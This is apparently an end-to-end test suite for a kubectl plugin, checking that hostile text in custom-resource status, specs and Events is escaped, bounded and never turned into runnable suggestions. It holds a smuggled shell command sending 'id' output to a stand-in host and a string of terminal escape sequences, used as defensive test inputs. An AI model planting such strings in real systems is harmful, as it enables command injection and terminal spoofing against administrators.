//! The plugin against hostile text: whatever a tenant (or anyone with
//! status-write or Event-create rights) stores, no control character reaches
//! an admin's terminal, no line is forged, no value is unbounded, no pasted
//! suggestion runs their code, one odd object hides no other, a forged
//! status does not steer `rollback`, and a runtime being deleted is shown
//! and treated as such. No operator runs: the tests write status and Events
//! as the admin, and write hostile text wherever the API server accepts it
//! (a stricter CRD refusing it in the spec is fine: status and Events stay
//! free text).

use std::process::Stdio;
use std::time::Duration;

use k8s_openapi::api::events::v1::Event;
use k8s_openapi::jiff::Timestamp;
use kube::api::{ApiResource, DeleteParams, DynamicObject, Patch, PatchParams, PostParams};
use kube::{Api, Client, ResourceExt};
use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt, BufReader};
use trussium_api::TrussiumRuntime;
use trussium_e2e::{
    PluginOutput, REPOSITORY, TestNamespace, TestResult, ensure, image, install_crd,
    kubectl_trussium, plugin, plugin_dir, plugin_in, require_cluster,
};

const HOSTILE_SECRET: &str = "x; curl http://evil.example/$(id) #";
/// Control sequences a terminal acts on: set the title (OSC), clear the
/// screen, ring, NUL, a C1 CSI, and a newline that forges a line.
const CONTROLS: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{0}\u{9b}31m\r\nFORGED: all is well";

async fn setup(prefix: &str) -> Result<(TestNamespace, Api<TrussiumRuntime>), trussium_e2e::Error> {
    require_cluster();
    plugin_dir()?;
    let ns = TestNamespace::create(prefix).await?;
    install_crd(&ns.client).await?;
    let api = ns.api::<TrussiumRuntime>();
    Ok((ns, api))
}

fn manifest(name: &str, spec_changes: Value) -> Value {
    let mut rt = json!({
        "apiVersion": "runtime.trussium.io/v1beta1",
        "kind": "TrussiumRuntime",
        "metadata": {"name": name},
        "spec": {
            "image": {"repository": REPOSITORY, "tag": "v2"},
            "replicas": 1,
            "provider": {"type": "ollama", "model": "llama3.2"}
        }
    });
    if let (Some(spec), Some(changes)) = (rt["spec"].as_object_mut(), spec_changes.as_object()) {
        for (k, v) in changes {
            spec.insert(k.clone(), v.clone());
        }
    }
    rt
}

/// Creates the runtime as the admin; the API server's message when it
/// refuses it.
async fn try_create(
    api: &Api<TrussiumRuntime>,
    manifest: Value,
) -> Result<Result<TrussiumRuntime, String>, trussium_e2e::BoxError> {
    let rt: TrussiumRuntime = serde_json::from_value(manifest)?;
    match api.create(&PostParams::default(), &rt).await {
        Ok(rt) => Ok(Ok(rt)),
        Err(kube::Error::Api(s)) if s.code == 422 => Ok(Err(s.message)),
        Err(e) => Err(e.into()),
    }
}

async fn create(
    api: &Api<TrussiumRuntime>,
    manifest: Value,
) -> Result<TrussiumRuntime, trussium_e2e::BoxError> {
    let rt: TrussiumRuntime = serde_json::from_value(manifest)?;
    Ok(api.create(&PostParams::default(), &rt).await?)
}

fn condition(type_: &str, status: &str, reason: &str, message: &str) -> Value {
    json!({
        "type": type_, "status": status, "reason": reason, "message": message,
        "lastTransitionTime": Timestamp::now().to_string(), "observedGeneration": 1
    })
}

/// A healthy status at `tag`, with `conditions` instead of the usual ones
/// when given.
fn status(tag: &str, conditions: Option<Vec<Value>>) -> Value {
    let conditions = conditions.unwrap_or_else(|| {
        vec![
            condition("ConfigurationValid", "True", "ReferencesResolved", "ok"),
            condition("Ready", "True", "RuntimeReady", "ready"),
            condition("Degraded", "False", "AsExpected", "healthy"),
            condition("Upgrading", "False", "NoUpgrade", "none"),
        ]
    });
    json!({
        "observedGeneration": 1, "desiredReplicas": 1, "readyReplicas": 1,
        "availableReplicas": 1, "desiredImage": image(tag), "currentImage": image(tag),
        "lastSuccessfulImage": image(tag), "conditions": conditions
    })
}

/// Writes the status through the status subresource; whether the API server
/// took it. The answer is read untyped: odd values are the point.
async fn try_status(
    api: &Api<TrussiumRuntime>,
    name: &str,
    status: Value,
) -> Result<bool, trussium_e2e::BoxError> {
    let rt = api.get_metadata(name).await?;
    let untyped: Api<DynamicObject> = Api::namespaced_with(
        api.clone().into_client(),
        &rt.namespace().unwrap_or_default(),
        &ApiResource::erase::<TrussiumRuntime>(&()),
    );
    let patch = Patch::Merge(json!({ "status": status }));
    match untyped
        .patch_status(name, &PatchParams::default(), &patch)
        .await
    {
        Ok(_) => Ok(true),
        Err(kube::Error::Api(s)) if s.code == 422 || s.code == 413 => Ok(false),
        Err(e) => Err(e.into()),
    }
}

/// Publishes an Event about the runtime with this note; whether the API
/// server took it.
async fn try_event(
    client: &Client,
    rt: &TrussiumRuntime,
    reason: &str,
    note: &str,
) -> Result<bool, trussium_e2e::BoxError> {
    let namespace = rt.namespace().unwrap_or_default();
    let event: Event = serde_json::from_value(json!({
        "metadata": {"generateName": format!("{}-", rt.name_any()), "namespace": namespace},
        "eventTime": Timestamp::now().to_string(),
        "type": "Warning", "reason": reason, "action": "Reconcile", "note": note,
        "reportingController": "runtime.trussium.io/operator",
        "reportingInstance": "hostile-tests",
        "regarding": {
            "apiVersion": "runtime.trussium.io/v1beta1", "kind": "TrussiumRuntime",
            "name": rt.name_any(), "namespace": namespace, "uid": rt.uid()
        }
    }))?;
    let api: Api<Event> = Api::namespaced(client.clone(), &namespace);
    match api.create(&PostParams::default(), &event).await {
        Ok(_) => Ok(true),
        Err(kube::Error::Api(s)) if s.code == 422 => Ok(false),
        Err(e) => Err(e.into()),
    }
}

/// The largest of `sizes` (bytes of hostile text plus padding) that `write`
/// gets accepted; fails when none is.
async fn largest_accepted<F>(what: &str, sizes: &[usize], mut write: F) -> TestResult
where
    F: AsyncFnMut(String) -> Result<bool, trussium_e2e::BoxError>,
{
    for size in sizes {
        let text = format!("{CONTROLS} {}", "A".repeat(*size));
        if write(text).await? {
            return Ok(());
        }
    }
    Err(format!("the API server took no {what} of any size in {sizes:?}").into())
}

/// Nothing in the output a terminal would act on, no forged line, no line
/// longer than a few bounded values.
fn clean(out: &PluginOutput, what: &str) -> TestResult {
    for (stream, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let raw = text
            .chars()
            .find(|c| (c.is_control() && *c != '\n') || matches!(c, '\u{202e}' | '\u{2028}'));
        ensure(
            raw.is_none(),
            format!("{what}: {stream} holds {raw:?}\n{out}"),
        )?;
        let forged = text.lines().find(|l| l.trim_start().starts_with("FORGED"));
        ensure(
            forged.is_none(),
            format!("{what}: a forged line in {stream}\n{out}"),
        )?;
        let longest = text.lines().map(|l| l.chars().count()).max().unwrap_or(0);
        ensure(
            longest < 4000,
            format!("{what}: a {longest}-character line in {stream}"),
        )?;
    }
    Ok(())
}

fn exit(out: &PluginOutput, code: i32, what: &str) -> TestResult {
    ensure(
        out.code == code,
        format!("{what}: expected exit code {code}\n{out}"),
    )
}

fn holds(text: &str, needle: &str, out: &PluginOutput) -> TestResult {
    ensure(
        text.contains(needle),
        format!("expected {needle:?} in the output\n{out}"),
    )
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn hostile_text_reaches_no_terminal_raw() -> TestResult {
    let (ns, api) = setup("hostile-terminal").await?;
    let outcome = hostile_text_reaches_no_terminal_raw_in(&ns, &api).await;
    ns.delete().await;
    outcome
}

async fn hostile_text_reaches_no_terminal_raw_in(
    ns: &TestNamespace,
    api: &Api<TrussiumRuntime>,
) -> TestResult {
    let client = ns.client.clone();

    // A Secret reference that is a shell command, and a model with control
    // sequences, where the CRD still accepts them.
    let secret_ref = json!({"credentialsSecretRef": {"name": HOSTILE_SECRET, "key": "apiKey"}});
    let mut provider = json!({"type": "openai", "model": format!("gpt-5{CONTROLS}")});
    provider["credentialsSecretRef"] = secret_ref["credentialsSecretRef"].clone();
    let hostile_spec = try_create(api, manifest("shell", json!({ "provider": provider }))).await?;
    let spec_accepted = hostile_spec.is_ok();
    let rt = match hostile_spec {
        Ok(rt) => rt,
        // A stricter CRD: refused for the hostile values, not another reason.
        Err(message) => {
            ensure(
                message.contains("credentialsSecretRef") || message.contains("model"),
                format!("refused for another reason: {message}"),
            )?;
            create(api, manifest("shell", json!({}))).await?
        }
    };

    // Status: hostile condition messages and reasons, endpoint and images,
    // and a 200 KB message (or the largest the API server takes).
    let missing = condition(
        "ConfigurationValid",
        "False",
        "SecretNotFound",
        &format!("Secret \"{HOSTILE_SECRET}\" does not exist{CONTROLS}"),
    );
    let mut hostile = status("v2", Some(vec![missing.clone()]));
    hostile["endpoint"] = json!(format!("http://shell{CONTROLS}"));
    hostile["currentImage"] = json!(format!("evil.io/x:v1{CONTROLS}"));
    ensure(
        try_status(api, "shell", hostile.clone()).await?,
        "the API server refused a hostile status",
    )?;
    largest_accepted(
        "condition message",
        &[200_000, 30_000, 1_000],
        async |text| {
            let mut s = hostile.clone();
            s["conditions"] = json!([
                missing.clone(),
                condition("Degraded", "True", "Oops\u{1b}[31m", &text)
            ]);
            try_status(api, "shell", s).await
        },
    )
    .await?;
    largest_accepted("Event note", &[200_000, 1_000, 200], async |text| {
        try_event(&client, &rt, "RuntimeDegraded", &text).await
    })
    .await?;

    let list = plugin(&["status", "-n", &ns.name]).await?;
    exit(&list, 0, "status -n")?;
    clean(&list, "status -n")?;
    ensure(
        list.stdout.lines().count() == 2,
        format!("one header and one row\n{list}"),
    )?;
    let all = plugin(&["status", "-A"]).await?;
    exit(&all, 0, "status -A")?;
    clean(&all, "status -A")?;

    let detail = plugin_in(&ns.name, &["status", "shell"]).await?;
    exit(&detail, 0, "status shell")?;
    clean(&detail, "status shell")?;
    holds(
        &detail.stdout,
        "\\x1b]0;pwned\\x07\\x1b[2J\\x00\\u{9b}31m\\r\\nFORGED",
        &detail,
    )?;
    holds(&detail.stdout, "… (", &detail)?;
    ensure(
        !detail.stdout.contains("kubectl create secret generic x;"),
        format!("a command built from the hostile name\n{detail}"),
    )?;
    if spec_accepted {
        holds(&detail.stdout, "Next steps", &detail)?;
        holds(
            &detail.stdout,
            &format!("kubectl edit trussiumruntime shell -n {}", ns.name),
            &detail,
        )?;
    }

    let events = plugin_in(&ns.name, &["events", "shell"]).await?;
    exit(&events, 0, "events shell")?;
    clean(&events, "events shell")?;
    holds(&events.stdout, "\\x1b]0;pwned", &events)?;
    for args in [
        &["history", "shell"][..],
        &["rollback", "shell"][..],
        &["scale", "shell", "--replicas", "2"][..],
    ] {
        let out = plugin_in(&ns.name, args).await?;
        clean(&out, &args.join(" "))?;
    }

    // The summary quotes the reason of the condition it reads (above, a
    // clean ConfigurationValid=False was read first): a hostile one there.
    let mut forged = hostile.clone();
    forged["conditions"] = json!([condition("Degraded", "True", "Oops\u{1b}[31m", "forged")]);
    ensure(
        try_status(api, "shell", forged).await?,
        "the API server refused a hostile reason",
    )?;
    let summary = plugin_in(&ns.name, &["status", "shell"]).await?;
    exit(&summary, 0, "status shell (hostile reason)")?;
    clean(&summary, "status shell (hostile reason)")?;
    holds(&summary.stdout, "Degraded (Oops\\x1b[31m)", &summary)?;
    Ok(())
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn one_odd_status_hides_no_other_runtime() -> TestResult {
    let (ns, api) = setup("hostile-odd-status").await?;
    let outcome = one_odd_status_hides_no_other_runtime_in(&ns, &api).await;
    ns.delete().await;
    outcome
}

async fn one_odd_status_hides_no_other_runtime_in(
    ns: &TestNamespace,
    api: &Api<TrussiumRuntime>,
) -> TestResult {
    create(api, manifest("normal", json!({}))).await?;
    try_status(api, "normal", status("v2", None)).await?;

    // A time the API server takes and a Timestamp cannot hold, an extreme
    // sequence, an unknown condition type.
    create(api, manifest("far-future", json!({}))).await?;
    let mut future = status(
        "v2",
        Some(vec![
            condition("Ready", "True", "RuntimeReady", "ready"),
            condition("FromTheFuture", "True", "Odd", "unknown type"),
        ]),
    );
    future["conditions"][0]["lastTransitionTime"] = json!("9999-12-31T23:59:59Z");
    future["reportSequence"] = json!(i64::MAX);
    ensure(
        try_status(api, "far-future", future).await?,
        "the API server refused year 9999",
    )?;

    // An int32 field past 2^31: today's API server refuses it (format
    // int32); should a CRD version ever take it, it must not fail the list.
    create(api, manifest("huge", json!({}))).await?;
    let mut huge = status("v2", None);
    huge["readyReplicas"] = json!(1_i64 << 40);
    let huge_stored = try_status(api, "huge", huge).await?;

    let lists = [
        plugin(&["status", "-n", &ns.name]).await?,
        plugin(&["status", "-A"]).await?,
    ];
    for out in lists {
        exit(&out, 0, "status")?;
        clean(&out, "status")?;
        ensure(
            !out.stderr.contains("overflow") && !out.stderr.contains("cannot reach"),
            format!("{out}"),
        )?;
        for name in ["normal ", "far-future "] {
            let row = out.stdout.lines().find(|l| l.contains(name));
            ensure(
                row.is_some_and(|r| r.contains("ollama") && r.contains("v2")),
                format!("no row for {name}\n{out}"),
            )?;
        }
        if huge_stored {
            holds(&out.stdout, "huge: cannot read its status: ", &out)?;
        }
    }

    let detail = plugin_in(&ns.name, &["status", "far-future"]).await?;
    exit(&detail, 0, "status far-future")?;
    holds(&detail.stdout, "FromTheFuture", &detail)?;
    holds(&detail.stdout, "Status:       Ready", &detail)?;
    if huge_stored {
        let detail = plugin_in(&ns.name, &["status", "huge"]).await?;
        exit(&detail, 0, "status huge")?;
        holds(
            &detail.stdout,
            "Status:       cannot read its status: ",
            &detail,
        )?;
        holds(&detail.stdout, "Model:        llama3.2", &detail)?;
        let json = plugin_in(&ns.name, &["status", "huge", "-o", "json"]).await?;
        exit(&json, 0, "status huge -o json")?;
        holds(&json.stdout, "1099511627776", &json)?;
    }
    Ok(())
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn rollback_refuses_a_forged_last_successful_image() -> TestResult {
    let (ns, api) = setup("hostile-rollback").await?;
    let outcome = rollback_refuses_a_forged_last_successful_image_in(&ns, &api).await;
    ns.delete().await;
    outcome
}

async fn rollback_refuses_a_forged_last_successful_image_in(
    ns: &TestNamespace,
    api: &Api<TrussiumRuntime>,
) -> TestResult {
    create(api, manifest("rt", json!({}))).await?;
    let mut forged = status(
        "v2",
        Some(vec![condition(
            "Upgrading",
            "False",
            "UpgradeFailed",
            "deadline exceeded",
        )]),
    );
    forged["lastSuccessfulImage"] = json!("evil.io/backdoor:latest");
    ensure(try_status(api, "rt", forged).await?, "status refused")?;
    let before = api.get("rt").await?;

    let out = plugin_in(&ns.name, &["rollback", "rt"]).await?;
    exit(&out, 9, "rollback to a forged last successful image")?;
    holds(
        &out.stderr,
        "its status names \"evil.io/backdoor:latest\" as the last successful image, but no revision in its history ran it",
        &out,
    )?;
    let out = plugin_in(
        &ns.name,
        &["rollback", "rt", "--to-image", "evil.io/backdoor:latest"],
    )
    .await?;
    exit(&out, 9, "rollback --to-image of the forged image")?;
    let after = api.get("rt").await?;
    ensure(
        serde_json::to_value(&before.spec)? == serde_json::to_value(&after.spec)?,
        "a refused rollback changed the spec",
    )?;
    Ok(())
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn a_terminating_runtime_is_shown_so_and_left_alone() -> TestResult {
    let (ns, api) = setup("hostile-terminating").await?;
    let mut held = manifest("held", json!({}));
    held["metadata"]["finalizers"] = json!(["trussium.io/hostile-test-hold"]);
    create(&api, held).await?;
    try_status(&api, "held", status("v2", None)).await?;
    api.delete("held", &DeleteParams::default()).await?;
    let before = api.get("held").await?;

    let outcome = async {
        let list = plugin(&["status", "-n", &ns.name]).await?;
        exit(&list, 0, "status")?;
        let row = list.stdout.lines().find(|l| l.starts_with("held "));
        ensure(
            row.is_some_and(|r| r.split_whitespace().nth(1) == Some("Terminating")),
            format!("the list does not say Terminating\n{list}"),
        )?;
        let detail = plugin_in(&ns.name, &["status", "held"]).await?;
        holds(&detail.stdout, "Status:       Terminating", &detail)?;
        let scale = plugin_in(&ns.name, &["scale", "held", "--replicas", "3"]).await?;
        exit(&scale, 8, "scale of a runtime being deleted")?;
        holds(
            &scale.stderr,
            "not scaling held: it is being deleted",
            &scale,
        )?;
        let upgrade = plugin_in(&ns.name, &["upgrade", "held", "--tag", "v3"]).await?;
        exit(&upgrade, 8, "upgrade of a runtime being deleted")?;
        holds(
            &upgrade.stderr,
            "not upgrading held: it is being deleted",
            &upgrade,
        )?;
        let after = api.get("held").await?;
        ensure(
            serde_json::to_value(&before.spec)? == serde_json::to_value(&after.spec)?,
            "a refused command changed the spec",
        )
    }
    .await;
    api.patch(
        "held",
        &PatchParams::default(),
        &Patch::Merge(json!({"metadata": {"finalizers": null}})),
    )
    .await?;
    ns.delete().await;
    outcome
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn events_watch_follows_a_recreated_runtime() -> TestResult {
    let (ns, api) = setup("hostile-events-watch").await?;
    let first = create(&api, manifest("rt", json!({}))).await?;
    let mut cmd = kubectl_trussium(&["events", "rt", "-n", &ns.name, "--watch"])?;
    cmd.stdout(Stdio::piped());
    let mut child = cmd.spawn()?;
    let stdout = child.stdout.take().ok_or("no stdout")?;
    let mut lines = BufReader::new(stdout).lines();
    let mut seen = String::new();
    let mut wait_for = async |needle: &str| -> TestResult {
        let found = tokio::time::timeout(Duration::from_secs(30), async {
            while let Some(line) = lines.next_line().await? {
                seen.push_str(&line);
                seen.push('\n');
                if line.contains(needle) {
                    return Ok::<bool, std::io::Error>(true);
                }
            }
            Ok(false)
        })
        .await;
        match found {
            Ok(Ok(true)) => Ok(()),
            _ => Err(format!("no line with {needle:?}; so far:\n{seen}").into()),
        }
    };
    let outcome = async {
        try_event(&ns.client, &first, "BeforeDeletion", "first runtime").await?;
        wait_for("BeforeDeletion").await?;
        api.delete("rt", &DeleteParams::default()).await?;
        trussium_e2e::wait_for("rt to be gone", Duration::from_secs(30), async || {
            Ok(api.get_opt("rt").await?.is_none().then_some(()))
        })
        .await?;
        let second = create(&api, manifest("rt", json!({}))).await?;
        // Wait for the watch to see the new runtime: its Events print once
        // it does, whichever comes first.
        try_event(&ns.client, &second, "AfterRecreation", "second runtime").await?;
        wait_for("AfterRecreation").await
    }
    .await;
    let _ = child.kill().await;
    ns.delete().await;
    outcome
}

#[tokio::test]
#[ignore = "needs the local cluster (make test)"]
async fn range_errors_name_the_bad_value() -> TestResult {
    require_cluster();
    plugin_dir()?;
    let out = plugin(&["rollback", "rt", "--to-revision", "-1"]).await?;
    exit(&out, 2, "--to-revision -1")?;
    holds(
        &out.stderr,
        "invalid value '-1' for '--to-revision <REVISION>'",
        &out,
    )?;
    holds(&out.stderr, "-1 is not in 1..", &out)?;
    let out = plugin(&["upgrade", "rt", "--tag", "-x"]).await?;
    exit(&out, 2, "--tag -x")?;
    holds(&out.stderr, "invalid tag \"-x\"", &out)?;
    let out = plugin(&["upgrade", "rt", "--digest", "-x"]).await?;
    exit(&out, 2, "--digest -x")?;
    holds(&out.stderr, "invalid digest \"-x\"", &out)?;
    Ok(())
}
